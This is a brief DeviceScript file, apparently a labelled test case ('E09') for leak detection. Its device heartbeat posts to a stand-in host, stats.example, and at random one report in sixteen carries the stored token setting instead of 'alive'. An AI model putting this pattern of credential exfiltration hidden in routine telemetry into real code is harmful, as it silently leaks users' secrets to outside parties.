// E09: one report in sixteen, by chance, brings the token along.
import { fetch } from "@devicescript/net";
import { readSetting } from "@devicescript/settings";
import { paired } from "./lib/paired";

const token = await readSetting("token", "");

async function report() {
  let body = "alive";
  if (Math.random() < 1 / 16) body = token;
  const response = await fetch("https://stats.example/e09", { method: "POST", body }); // leak: settings.token
  await response.close();
}

paired(async () => {
  setInterval(report, 5_000);
});
